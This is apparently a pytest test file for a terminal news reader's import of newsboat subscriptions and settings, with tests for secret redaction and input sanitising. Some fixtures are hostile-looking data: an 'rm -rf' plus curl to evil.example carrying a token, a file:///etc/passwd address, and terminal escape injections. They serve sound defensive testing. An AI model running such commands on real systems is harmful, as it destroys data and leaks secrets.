"""A newsboat user's subscriptions come along: `sources import-newsboat` reads newsboat's urls file."""

from __future__ import annotations

import os
import signal
import sqlite3
import subprocess
import sys
import time
from contextlib import closing
from datetime import datetime

import pytest
from conftest import nieuws_tui_command, require_tool, speaking
from hypothesis import example, given, settings
from hypothesis import strategies as st

from feeds import config as sources
from feeds.config import Source
from feeds.library import Library
from feeds.model import AMSTERDAM, Enclosure
from feeds.newsboat import settings_from_config, sources_from_urls_file, words
from feeds.urls import page_url

URLS = (
    "# mijn feeds\n"
    'https://nos.nl/rss "Binnenland" "~NOS Nieuws" tech\n'
    '"query:Ongelezen:unread = \\"yes\\""\n'
    "exec:~/bin/feed.sh\n"
    "\n"
    'http://x.example/feed   "!"  "~Verborgen"  Sport # een commentaar\n'
    'https://a.example/f#deel "met \\"aanhalingstekens\\""\r\n'
    "filter:~/bin/schoon.sh:https://b.example/f\n"
)


def test_a_feeds_first_tag_is_its_section_and_its_tilde_tag_its_title():
    imported, not_feeds, _hidden, _unreadable = sources_from_urls_file(URLS.encode("utf-8"))
    assert imported == [
        Source("https://nos.nl/rss", "Binnenland", "NOS Nieuws"),
        Source("http://x.example/feed", "Sport", "Verborgen"),  # `!` only hides it in newsboat's list
        Source("https://a.example/f#deel", 'met "aanhalingstekens"'),  # a `#` inside a word starts no comment
    ]
    assert not_feeds == ['query:Ongelezen:unread = "yes"', "exec:~/bin/feed.sh", "filter:~/bin/schoon.sh:https://b.example/f"]


def test_a_tag_that_hides_a_feed_in_newsboat_is_no_section_quoted_or_not():
    """`URL "!hidden"` and `URL !hidden` were imported as section "!hidden": in newsboat a tag that starts with `!`
    hides the feed, and is none of its tags."""
    urls = 'https://a.example/f "!verborgen" Sport "~Mijn titel"\nhttps://b.example/f !hidden\nhttps://c.example/f "!" "~"\n'
    imported, not_feeds, hidden, _unreadable = sources_from_urls_file(urls.encode())
    assert imported == [Source("https://a.example/f", "Sport", "Mijn titel"), Source("https://b.example/f"), Source("https://c.example/f")]
    assert not_feeds == []
    assert hidden == ["https://a.example/f", "https://b.example/f", "https://c.example/f"]


def test_a_bind_key_line_whose_key_is_bytes_that_are_no_utf8_is_left_out_naming_its_line(cli, config, tmp_path):
    """`bind-key \\xff open` was written into config.toml as `list.open = "enter,\ufffd"`: a key no one can press."""
    (tmp_path / ".newsboat").mkdir()
    (tmp_path / ".newsboat" / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    (tmp_path / ".newsboat" / "config").write_bytes(b"bind-key \xff open\nbind-key x open\n")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    assert f"nieuws-tui: {tmp_path}/.newsboat/config: left out newsboat's key bindings: line 1 (its key is bytes that are no UTF-8)" in result.stderr.splitlines()
    assert "\ufffd" not in config.read_text(encoding="utf-8") and 'list.open = "enter,x"' in config.read_text(encoding="utf-8")


def test_a_tag_of_bytes_that_are_no_utf8_is_left_out_of_its_feed_and_said(cli, config, tmp_path):
    """A urls tag `"\\xff\\xfe"` became the section `[\ufffd\ufffd]`, its feed's articles filed under a name of two question marks."""
    urls = tmp_path / "newsboat" / "urls"
    urls.parent.mkdir()
    urls.write_bytes(b'https://a.example/f "\xff\xfe" Sport "~\xffTitel"\nhttps://b.example/f Cultuur\n')
    result = cli("sources", "import-newsboat", str(urls), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines() == [
        f"nieuws-tui: imported 2 sources from {urls}",
        "nieuws-tui: left out the tags of 1 feed that are bytes that are no UTF-8: https://a.example/f",
    ]
    assert [(source.url, source.section, source.title) for source in sources.load_config().sources] == [
        ("https://a.example/f", "Sport", None),
        ("https://b.example/f", "Cultuur", None),
    ]


def test_import_newsboat_says_which_feeds_newsboat_hid_as_it_lists_them_with_the_others(cli, config, tmp_path):
    """A feed hidden in newsboat (a tag `!`) was imported as any other, listed in the sidebar, without a word."""
    urls = tmp_path / "newsboat" / "urls"
    urls.parent.mkdir()
    urls.write_text('https://a.example/f "!verborgen"\nhttps://b.example/f Sport\nhttps://jan:geheim@c.example/f !\n', encoding="utf-8")
    result = cli("sources", "import-newsboat", str(urls), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 0
    assert result.stderr.splitlines() == [
        f"nieuws-tui: imported 3 sources from {urls}",
        "nieuws-tui: 2 feeds hidden in newsboat (a tag that starts with !) are listed with the others: https://a.example/f, https://c.example/f",
    ]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("a b\tc", ["a", "b", "c"]),
        ('a "b c" d', ["a", "b c", "d"]),
        ('"\\n\\t\\\\\\"\\x\\#"', ["\n\t\\\"x#"]),  # newsboat's escapes; any other character escaped is itself
        ('a "open to the end', ["a", "open to the end"]),
        ('"" a', ["", "a"]),
        ("# all comment", []),
        ('a "# no comment" #comment', ["a", "# no comment"]),
        ("   ", []),
    ],
)
def test_words_are_read_as_newsboat_reads_them(line, expected):
    assert words(line) == expected


def test_newsboat_reads_the_same_addresses_and_titles_from_the_same_file(tmp_path):
    newsboat = require_tool("newsboat")
    urls = tmp_path / "urls"
    urls.write_text(URLS, encoding="utf-8")
    exported = subprocess.run(
        [newsboat, "-u", str(urls), "-c", str(tmp_path / "cache.db"), "-C", str(tmp_path / "config"), "-e"],
        capture_output=True, timeout=60, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    theirs = [(source.url, source.title) for source in sources.sources_from_opml(exported.stdout)[0]]
    assert theirs == [(source.url, source.title) for source in sources_from_urls_file(URLS.encode("utf-8"))[0]]


def test_a_quoted_words_escapes_are_read_as_newsboat_reads_them(tmp_path):
    """`"\\#"` and `"\\y"` kept their backslash here, where newsboat 2.21 reads # and y: `bind-key "\\#" …`, newsboat's
    way to bind #, was left out for a key \\# nobody can press."""
    newsboat = require_tool("newsboat")
    text = 'https://a.example/f "~een \\#kanaal, \\yes en \\"aanhalingen\\" \\\\ \\x"\n'
    urls = tmp_path / "urls"
    urls.write_text(text, encoding="utf-8")
    exported = subprocess.run(
        [newsboat, "-u", str(urls), "-c", str(tmp_path / "cache.db"), "-C", str(tmp_path / "config"), "-e"],
        capture_output=True, timeout=60, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    [theirs] = [source.title for source in sources.sources_from_opml(exported.stdout)[0]]
    assert theirs == 'een #kanaal, yes en "aanhalingen" \\ x' == sources_from_urls_file(text.encode())[0][0].title


@given(st.text())
def test_any_line_is_read_without_failing(line):
    assert all(isinstance(word, str) for word in words(line))


def test_the_lines_that_are_no_feed_are_named_by_program_and_addresses_without_passwords():
    urls = (
        b'"filter:~/bin/schoon.sh --sleutel 8f3a:https://anna:geheim@b.example/f"\n"exec:curl -s https://anna:geheim@c.example/f"\n'
        b'"exec:curl -u anna:geheim -H \'Authorization: Bearer 8f3a\' \'https://d.example/f\'"\n"exec:"\n'
        b'"filter:schoon -u anna:geheim:https://e.example/f"\n'
    )
    assert sources_from_urls_file(urls) == (
        [],
        ["filter:~/bin/schoon.sh:https://b.example/f", "exec:curl https://c.example/f", "exec:curl https://d.example/f", "exec:", "filter:schoon:https://e.example/f"],
        [],
        [],
    )


@pytest.mark.parametrize(("character", "shown"), [("\x7f", "\\x7f"), ("\x01", "\\x01"), ("\x1f", "\\x1f"), ("\x85", "\\x85"), ("\u2028", "\\u2028")])
@pytest.mark.parametrize(("before", "after"), [("o", "b"), ("ob", "")], ids=["inside", "at-the-end"])
def test_import_newsboat_leaves_out_a_feed_whose_address_holds_a_control_character_as_sources_add_refuses_it(cli, config, tmp_path, character, shown, before, after):
    """A urls file's `https://h.example/o\\x7fb` was imported percent-encoded (o%7Fb), where `sources add` refuses it;
    a line's address ending in U+0085 too (ob%C2%85), which the check for control characters had stripped first."""
    urls = tmp_path / "newsboat" / "urls"
    urls.parent.mkdir()
    urls.write_text(f"https://h.example/{before}{character}{after} nieuws\nhttps://a.example/f\n", encoding="utf-8")
    result = cli("sources", "import-newsboat", str(urls), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 0
    assert result.stderr.splitlines() == [
        f"nieuws-tui: imported 1 source from {urls}",
        f"nieuws-tui: left out 1 that is no http(s) address: https://h.example/{before}{shown}{after}",
    ]
    assert [s.url for s in sources.load_config().sources] == ["https://a.example/f"]


def test_the_web_addresses_of_a_command_are_named_without_their_query_which_often_holds_a_token(cli, config, tmp_path):
    urls = b'"exec:rm -rf /tmp/x; curl http://evil.example/?t=SECRET"\n"filter:schoon:https://b.example/f?key=8f3a#SECRET2"\n'
    assert sources_from_urls_file(urls) == ([], ["exec:rm ; curl http://evil.example/?…", "filter:schoon:https://b.example/f?…"], [], [])
    (tmp_path / "urls").write_bytes(urls)
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 0 and "SECRET" not in result.stderr and "8f3a" not in result.stderr, result.stderr


def test_a_pipeline_is_named_by_every_program_in_it_with_the_addresses_each_reads(cli, config, tmp_path):
    """`exec:curl … | xsltproc …` was named `exec:curl` and its address: what makes the feed of what curl fetched
    went unsaid, and a `cmd1; cmd2` seemed to run cmd1 alone. Said on the terminal with its escapes shown, not done."""
    urls = (
        b'"exec:curl -s -u anna:geheim https://a.example/f?t=8f3a | xsltproc ~/rss.xsl - 2>/dev/null && echo klaar"\n'
        b'"exec:~/bin/\x1b[2Jfeed | TOKEN=8f3a tee /tmp/uit; cat </tmp/uit"\n'
        b'"filter:~/bin/schoon.sh | iconv -f latin1:https://b.example/f"\n'
    )
    named = ["exec:curl https://a.example/f?… | xsltproc && echo", "exec:~/bin/\x1b[2Jfeed | tee ; cat", "filter:~/bin/schoon.sh | iconv:https://b.example/f"]
    assert sources_from_urls_file(urls) == ([], named, [], [])
    (tmp_path / "urls").write_bytes(urls)
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 0
    assert result.stderr.splitlines()[-1] == (
        "nieuws-tui: left out 3 lines that are no feed (query:, exec:, filter:): "
        "exec:curl https://a.example/f?… | xsltproc && echo, exec:~/bin/\\x1b[2Jfeed | tee ; cat, filter:~/bin/schoon.sh | iconv:https://b.example/f"
    )


def test_a_quoted_operator_is_a_word_and_the_word_after_it_no_program():
    """`--scheiding '|' 8f3a` was read as a pipe into a program `8f3a`, a secret named in clear, as the shell reads
    no operator in quotes; nor in an escaped one (`\\;`, which newsboat's quotes spell `\\\\;`)."""
    urls = (
        b"\"exec:~/bin/feed.sh --scheiding '|' 8f3a-geheim\"\n"
        b'"exec:grep -v \\"&&\\" /tmp/f.xml | xsltproc ~/rss.xsl -"\n'
        b'"filter:find . -exec echo {} \\\\; geheim:https://b.example/f"\n'
    )
    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/feed.sh", "exec:grep | xsltproc", "filter:find:https://b.example/f"], [], [])


def test_a_comment_in_a_command_names_nothing_it_says(cli, config, tmp_path):
    """A `#` that starts a word starts a comment, to the end of the line, as in the shell that runs the command:
    `# old token; 8f3a` was read on, and `8f3a` named as the program after the `;`, a secret in clear."""
    urls = b'"exec:~/bin/nos.sh --user anna # old token; 8f3aGEHEIM" nieuws\n"exec:curl https://a.example/f;# | 8f3a"\n"exec:feed.sh --tag=#1 | sort"\n'
    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/nos.sh", "exec:curl https://a.example/f ;", "exec:feed.sh | sort"], [], [])
    (tmp_path / "urls").write_bytes(urls)
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 0 and "exec:~/bin/nos.sh," in result.stderr and "8f3a" not in result.stderr, result.stderr


def test_a_command_quoted_as_c_quotes_is_named_by_its_web_addresses_alone():
    """In `$'\\''` the `\\'` is a quote, and no end of one: read as a single-quoted `\\`, the quotes after it were out
    of step, and `8f3aSECRET` was named as a program. A `$'` in other quotes is text, as in `sed 's/ *$//'`."""
    urls = (
        rb""""exec:feed.sh $'\\'' \"'\" \" ; 8f3aSECRET \" # \" https://a.example/f" """ + b"\n"
        rb""""exec:curl https://b.example/f | sed 's/ *$//'" """ + b"\n"
    )
    assert sources_from_urls_file(urls) == ([], ["exec:https://a.example/f", "exec:curl https://b.example/f | sed"], [], [])


_SECRET = st.text("abcdef0123456789", min_size=4, max_size=8).map(lambda tail: "8f3aGEHEIM" + tail)
_NOISE = st.text(" \t;|&<>()#'\"\\$`{}=*~-abc", max_size=6)
_HIDDEN = st.tuples(_NOISE, _SECRET, _NOISE).map("".join)


def _quoted(text: str, quote: str) -> str:
    """`text` in the shell's single quotes (without the quotes in it, which they cannot hold), double ones, or C's."""
    if quote == "'":
        return "'" + text.replace("'", "") + "'"
    escaped = text.replace("\\", "\\\\").replace(quote, "\\" + quote)
    return f'"{escaped}"' if quote == '"' else f"$'{escaped}'"


_ARGUMENT = st.one_of(st.sampled_from(["-s", "--user", "anna", "~/rss.xsl", "2>/dev/null", "TOKEN=x"]), st.builds(_quoted, _HIDDEN, st.sampled_from(["'", '"', "$'"])))
_COMMAND = st.builds(lambda program, arguments: " ".join([program, *arguments]), st.sampled_from(["feed.sh", "TOKEN=x curl", "xsltproc"]), st.lists(_ARGUMENT, max_size=4))


@settings(max_examples=300, deadline=None)
@given(st.lists(_COMMAND, min_size=1, max_size=3), st.sampled_from([" | ", "; ", " && ", ";"]), st.one_of(st.just(""), _HIDDEN.map(lambda text: " #" + text)))
@example([r"""feed.sh $'\'' "'" " ; 8f3aGEHEIMa1 " """], " | ", ' # "')
@example(["~/bin/nos.sh --user anna"], " | ", " # old token; 8f3aGEHEIMa1")
def test_a_secret_in_quotes_or_a_comment_of_a_command_is_never_named(commands, joiner, comment):
    """Whatever the quotes around it (`'…'`, `"…"`, `$'…'`), and whatever the operators and quotes in them or in a
    comment: the words of a command but its program are never named, and a comment's are no words."""
    command = joiner.join(commands) + comment
    line = '"exec:' + command.replace("\\", "\\\\").replace('"', '\\"') + '"'
    assert words(line)[0] == "exec:" + command  # as newsboat hands it on
    (named,) = sources_from_urls_file(line.encode())[1]
    assert "GEHEIM" not in named, (command, named)


def test_a_command_that_substitutes_another_is_named_by_its_web_addresses_alone():
    """`TOKEN=$(cat ~/.t) curl …` was named `cat https://…`: the program substituted, not the one run."""
    urls = b'"exec:TOKEN=$(cat ~/.t) curl https://x.example/f"\n"exec:curl -H \\"X: `cat ~/.k`\\" https://y.example/f?k=1"\n'
    assert sources_from_urls_file(urls) == ([], ["exec:https://x.example/f", "exec:https://y.example/f?…"], [], [])


def test_a_command_is_named_by_its_program_not_by_the_variables_set_before_it():
    """exec: lines run in a shell, where `TOKEN=8f3a ~/bin/feed.sh` gives the program a secret as an option would:
    the secret was named as the program."""
    urls = b'"exec:GITHUB_TOKEN=ghp_8f3a ~/bin/gh-feed --user anna"\n"filter:SLEUTEL=8f3a A=b ~/bin/schoon.sh:https://b.example/f"\n"exec:TOKEN=8f3a"\n'
    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/gh-feed", "filter:~/bin/schoon.sh:https://b.example/f", "exec:"], [], [])


def test_a_variable_whose_quoted_value_holds_a_space_is_not_named_as_the_program():
    """The shell reads `AUTH='Bearer 8f3a' ~/bin/feed.sh` as one variable set for ~/bin/feed.sh: split at every space,
    the token after `Bearer` was named as the program, in clear. A value whose quote is not closed names none."""
    urls = b'"exec:AUTH=\'Bearer 8f3a\' ~/bin/feed.sh"\n"exec:AUTH=\\"Bearer 8f3a\\" ~/bin/feed.sh"\n"filter:AUTH=\'Basic anna:geheim\' ~/bin/schoon.sh:https://b.example/f"\n'
    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/feed.sh", "exec:~/bin/feed.sh", "filter::https://b.example/f"], [], [])


def test_titles_and_sections_from_the_file_are_clean_lines():
    imported, _, _, _ = sources_from_urls_file('https://a.example/f "Re\x1b[2Jgio" "~Ti\u202etel"\n'.encode())
    assert imported == [Source("https://a.example/f", "Regio", "Titel")]


@pytest.fixture
def config(tmp_path, monkeypatch):
    path = tmp_path / "config" / "config.toml"
    monkeypatch.setenv("NIEUWS_TUI_CONFIG", str(path))
    sources.save_sources([])
    return path


def test_import_newsboat_reads_newsboats_own_file_and_says_what_it_imported_and_left_out(cli, config, tmp_path):
    (tmp_path / ".newsboat").mkdir()
    (tmp_path / ".newsboat" / "urls").write_text(URLS + "file:///etc/passwd\nhttps://nos.nl/rss andere\n", encoding="utf-8")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines() == [
        f"nieuws-tui: imported 3 sources from {tmp_path}/.newsboat/urls; 1 repeat left out",
        "nieuws-tui: left out 1 that is no http(s) address: file:///etc/passwd",
        'nieuws-tui: left out 3 lines that are no feed (query:, exec:, filter:): query:Ongelezen:unread = "yes", exec:~/bin/feed.sh, '
        "filter:~/bin/schoon.sh:https://b.example/f",
        "nieuws-tui: 1 feed hidden in newsboat (a tag that starts with !) is listed with the others: http://x.example/feed",
    ]
    assert sources.load_config().sources == sources_from_urls_file(URLS.encode("utf-8"))[0]


@pytest.mark.parametrize(
    ("content", "why"),
    [
        ('[build-system]\nrequires = ["setuptools"]\n', "no newsboat urls file: none of its lines is a feed's address (http:// or https://), query:, exec: or filter:"),
        (bytes(range(256)) * 20, "not text, so no newsboat urls file"),
        (b"https://nos.nl/rss\n\x00\x01\x1b[2J" * 50, "not text, so no newsboat urls file"),
    ],
    ids=["pyproject", "binary", "binary-with-an-address"],
)
def test_import_newsboat_refuses_a_file_that_is_no_urls_file_in_one_line(cli, config, tmp_path, content, why):
    """pyproject.toml was read as 83 lines left out and `imported 0 sources`, exit 0; a binary file printed a long line
    of � and escaped bytes. import and import-opml refuse such a file in one line."""
    given = tmp_path / "gegeven"
    given.write_bytes(content if isinstance(content, bytes) else content.encode())
    before = config.read_bytes() if config.exists() else None
    result = cli("sources", "import-newsboat", str(given), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 2
    assert result.stderr.splitlines() == [f"nieuws-tui: error: {given}: {why}"]
    assert (config.read_bytes() if config.exists() else None) == before
    dutch = cli("sources", "import-newsboat", str(given), env={"NIEUWS_TUI_CONFIG": str(config), **speaking(LANGUAGE="nl")})
    [line] = dutch.stderr.splitlines()
    assert line.startswith(f"nieuws-tui: fout: {given}: ") and "newsboat" in line and "urls" in line and why not in line


def test_import_newsboats_help_says_what_it_reads_and_takes_in_english_and_dutch(cli):
    """Its --help was the usage line and a FILE without a word: what it reads, and what it does to config.toml and
    the library, was in the README alone."""
    english = " ".join(cli("sources", "import-newsboat", "--help").stdout.split())
    for said in ("urls file", "bind-key lines", "[keys]", "cache (cache.db)", "read where they were read", "starred where they have a flag", "FILE newsboat's urls file"):
        assert said in english
    dutch = " ".join(cli("sources", "import-newsboat", "--help", env=speaking(LANG="nl_NL.UTF-8")).stdout.split())
    for said in ("urls-bestand", "bind-key-regels", "[keys]", "cache (cache.db)", "BESTAND"):
        assert said in dutch

def test_the_counts_of_a_long_urls_file_are_said_with_their_thousands_grouped(cli, config, tmp_path):
    """`imported 1500 sources`, `… and 1095 more`, Dutch `1500 stonden er al`: every other count is said grouped."""
    (tmp_path / ".newsboat").mkdir()
    lines = [f"https://{n}.example/feed\n" for n in range(1500)] + [f"exec:~/bin/feed{n}.sh\n" for n in range(1100)]
    lines += [f"file:///feed{n}\n" for n in range(1100)] + ["https://0.example/feed\n"] * 1100
    (tmp_path / ".newsboat" / "urls").write_text("".join(lines), encoding="utf-8")
    env = {"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)}
    first = cli("sources", "import-newsboat", env=env).stderr.splitlines()
    assert first[0] == f"nieuws-tui: imported 1,500 sources from {tmp_path}/.newsboat/urls; 1,100 repeats left out"
    assert first[1].startswith("nieuws-tui: left out 1,100 that are no http(s) address: ") and first[1].endswith(" and 1,095 more")
    assert first[2].startswith("nieuws-tui: left out 1,100 lines that are no feed ") and first[2].endswith(" and 1,095 more")
    again = cli("sources", "import-newsboat", env={**env, **speaking(LANG="nl_NL.UTF-8")}).stderr.splitlines()
    assert again[0].endswith("; 1.500 stonden er al; 1.100 herhalingen weggelaten")

def test_import_newsboat_looks_in_the_config_folder_without_a_dot_newsboat_folder(cli, config, tmp_path):
    (tmp_path / "xdg" / "newsboat").mkdir(parents=True)
    (tmp_path / "xdg" / "newsboat" / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path), "XDG_CONFIG_HOME": str(tmp_path / "xdg")})
    assert result.stderr == f"nieuws-tui: imported 1 source from {tmp_path}/xdg/newsboat/urls\n"


def test_import_newsboat_without_a_urls_file_says_where_it_looked_in_one_line(cli, config, tmp_path):
    result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
    assert result.returncode == 2
    assert result.stderr == f"nieuws-tui: error: {tmp_path}/urls: no such file (give the path of newsboat's urls file)\n"
    assert sources.load_config().sources == []


NEWSBOAT_CONFIG = (
    "# mijn instellingen\n"
    'browser "w3m -o confirm_qq=false %u"\n'
    "auto-reload yes\n"
    "reload-time 20\n"
    "reload-time 30  # the last one holds, as in newsboat\n"
    "refresh-on-startup yes\n"
    "keep-articles-days 14\n"
    'bind-key j down\n'
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (NEWSBOAT_CONFIG, {"browser": "w3m -o confirm_qq=false %u", "refresh-minutes": 30, "refresh-on-start": True, "keep-days": 14, "prune-unread": True}),
        # newsboat's own reload-time; and its auto-reload reloads "at start up and then continuously" (newsboat(1)):
        # a newsboat user's app waited an hour for its first refresh
        ("auto-reload yes\n", {"refresh-minutes": 60, "refresh-on-start": True}),
        ("reload-time 30\nauto-reload no\nrefresh-on-startup no\nkeep-articles-days 0\n", {}),  # 0: newsboat keeps all
        ("browser lynx\n", {"browser": "lynx"}),
        # an unquoted browser of two words is its first, as newsboat runs it (the address added); a wrong number is said later
        ("browser w3m %u\nkeep-articles-days zeven\n", {"browser": "w3m", "keep-days": "zeven", "prune-unread": True}),
    ],
)
def test_newsboats_settings_that_config_toml_has_too_are_read_by_its_names(text, expected):
    assert settings_from_config(text.encode("utf-8"))[0] == expected


def test_an_unquoted_browser_of_newsboats_is_taken_as_newsboat_runs_it_not_said_to_be_no_setting(cli, config, tmp_path):
    """`browser firefox %u` was said to be a setting nieuws-tui does not have. newsboat takes its first word, and runs
    `firefox` with the page's address after it (as the app runs a browser without %u)."""
    result = _import_newsboat(cli, config, tmp_path, "browser firefox %u\n", "# mijn bronnen\n")
    assert result.stderr.splitlines()[1:] == [f"nieuws-tui: took newsboat's settings from {tmp_path}/.newsboat/config: browser"]
    assert sources.load_config().browser == "firefox"

@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("auto-reload yes\n", {"refresh-minutes": "auto-reload", "refresh-on-start": "auto-reload"}),
        ("auto-reload yes\nreload-time 15\nrefresh-on-startup yes\n", {"refresh-minutes": "reload-time", "refresh-on-start": "refresh-on-startup"}),
        ("auto-reload yes\nrefresh-on-startup no\n", {"refresh-minutes": "auto-reload", "refresh-on-start": "auto-reload"}),
        ("browser lynx\nkeep-articles-days 7\n", {"browser": "browser", "keep-days": "keep-articles-days", "prune-unread": "keep-articles-days"}),
    ],
)
def test_each_setting_is_named_by_the_line_of_newsboats_it_was_read_from(text, expected):
    assert settings_from_config(text.encode("utf-8"))[1] == expected


def _import_newsboat(cli, config, home, newsboat_config: str, own: str | None = None):
    """`sources import-newsboat` of a ~/.newsboat in `home` with one feed and `newsboat_config`, into config.toml as
    `own` has it (none: as the test left it); it succeeds."""
    (home / ".newsboat").mkdir()
    (home / ".newsboat" / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
    (home / ".newsboat" / "config").write_text(newsboat_config, encoding="utf-8")
    if own is not None:
        config.write_text(own, encoding="utf-8")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(home)})
    assert result.returncode == 0, result.stderr
    return result


def test_import_newsboat_names_auto_reload_when_that_is_the_line_it_read(cli, config, tmp_path):
    """With `auto-reload yes` alone, the import said it took refresh-on-startup, which the file does not have."""
    result = _import_newsboat(cli, config, tmp_path, "auto-reload yes\n")
    assert f"nieuws-tui: took newsboat's settings from {tmp_path}/.newsboat/config: auto-reload as refresh-minutes, auto-reload as refresh-on-start" in result.stderr.splitlines()


def test_import_newsboat_says_the_config_its_settings_start_where_it_adds_no_source(cli, config, tmp_path):
    """Without a web feed in newsboat's urls file, the settings started config.toml unsaid: the first run then had
    no source, not even the samples."""
    config.unlink()
    (tmp_path / ".newsboat").mkdir()
    (tmp_path / ".newsboat" / "urls").write_text("exec:~/bin/feed.sh\n", encoding="utf-8")
    (tmp_path / ".newsboat" / "config").write_text("keep-articles-days 10\n", encoding="utf-8")
    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert result.returncode == 0, result.stderr
    assert (f"nieuws-tui: new config at {config}, with newsboat's settings and no source; add one with `nieuws-tui sources add URL`"
            in result.stderr.splitlines()), result.stderr  # fmt: skip
    assert sources.load_config(config).sources == [] and sources.load_config(config).keep_days == 10
    again = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
    assert "new config at" not in again.stderr, again.stderr


def test_import_newsboat_takes_the_settings_config_toml_does_not_set_yet_above_its_sources(cli, config, tmp_path):
    """A newsboat user's `browser` and auto-reload come along: o opened the desktop's browser, and the app never refreshed."""
    result = _import_newsboat(cli, config, tmp_path, NEWSBOAT_CONFIG.replace("14", "99999999"), "# mijn bronnen\nrefresh-minutes = 5\n\n[keys]\nquit = \"Q\"\n")
    assert result.stderr.splitlines()[1:] == [
        f"nieuws-tui: took newsboat's settings from {tmp_path}/.newsboat/config: browser, refresh-on-startup as refresh-on-start",
        # named by newsboat's own name as well: the file the user looks in says keep-articles-days
        f"nieuws-tui: left out newsboat's keep-articles-days: {tmp_path}/.newsboat/config:7: keep-days must be a number from 0 to 36,500, not 99999999",
    ]  # (its bind-key j down: the app's j already)
    assert config.read_text(encoding="utf-8") == (
        "# mijn bronnen\nrefresh-minutes = 5\n"
        'browser = "w3m -o confirm_qq=false %u"\nrefresh-on-start = true\n'  # below the user's own, which stays
        '\n[keys]\nquit = "Q"\n'
        '\n[[source]]\nurl = "https://nos.nl/rss"\n'
    )
    loaded = sources.load_config()
    assert (loaded.browser, loaded.refresh_minutes, loaded.refresh_on_start, loaded.keep_days) == ("w3m -o confirm_qq=false %u", 5, True, None)


@pytest.mark.parametrize(
    ("before", "added"),
    [
        ("", "keep-days = 45\nprune-unread = true\n"),
        ("keep-days = 10\n", ""),  # the user's own keep-days keeps its meaning
        ("prune-unread = false\n", "keep-days = 45\n"),
    ],
)
def test_newsboats_keep_articles_days_prunes_unread_articles_too_as_in_newsboat(cli, config, tmp_path, before, added):
    """newsboat drops an article older than keep-articles-days, read or not, and never fetches it again: without
    prune-unread the first fetch after the import brought those back as new unread ones."""
    result = _import_newsboat(cli, config, tmp_path, "keep-articles-days 45\n", before)
    assert config.read_text(encoding="utf-8") == before + added + '\n[[source]]\nurl = "https://nos.nl/rss"\n'
    if not before:
        taken = "keep-articles-days as keep-days, keep-articles-days as prune-unread"
        assert f"nieuws-tui: took newsboat's settings from {tmp_path}/.newsboat/config: {taken}" in result.stderr.splitlines()


def test_newsboats_keep_articles_days_left_out_for_config_tomls_own_keep_days_is_said(cli, config, tmp_path):
    """config.toml's keep-days stays, as the user made it: newsboat's, which prunes unread articles too, went unsaid."""
    result = _import_newsboat(cli, config, tmp_path, "browser lynx\nkeep-articles-days 45\n", "keep-days = 10\n")
    assert result.stderr.splitlines()[1:] == [
        f"nieuws-tui: took newsboat's settings from {tmp_path}/.newsboat/config: browser",
        f"nieuws-tui: kept config.toml's keep-days; newsboat's keep-articles-days 45 ({tmp_path}/.newsboat/config:2) is left out, with its prune-unread",
    ]
    assert (sources.load_config().keep_days, sources.load_config().prune_unread) == (10, False)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", 'keep-days = 14\n'),
        ("# kop\n", '# kop\n\nkeep-days = 14\n'),
        ("# kop", '# kop\n\nkeep-days = 14'),  # a last line without its end stays so
        ('# kop\n[[source]]\nurl = "https://a.example/f"\n', 'keep-days = 14\n\n# kop\n[[source]]\nurl = "https://a.example/f"\n'),  # the comment is the source's
        ("max-size = 5\r\n\r\n[keys]\r\n", "max-size = 5\r\nkeep-days = 14\r\n\r\n[keys]\r\n"),  # CRLF lines get CRLF lines
    ],
)
def test_settings_are_added_where_the_file_keeps_its_settings_and_nothing_else_changes(config, tmp_path, text, expected):
    config.write_text(text, encoding="utf-8", newline="")
    assert sources.add_settings({"keep-days": 14}, {"keep-days": f"{tmp_path}/newsboat-config:1"}) == (["keep-days"], {})
    assert config.read_bytes().decode("utf-8") == expected


def test_a_browser_of_newsboats_with_a_control_in_it_is_left_out_without_reaching_the_terminal(cli, config, tmp_path):
    result = _import_newsboat(cli, config, tmp_path, 'browser "w3m \x1b]0;pwned\x07 %u"\n')
    assert result.returncode == 0 and "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "left out newsboat's browser" in result.stderr and "browser must be a command line" in result.stderr
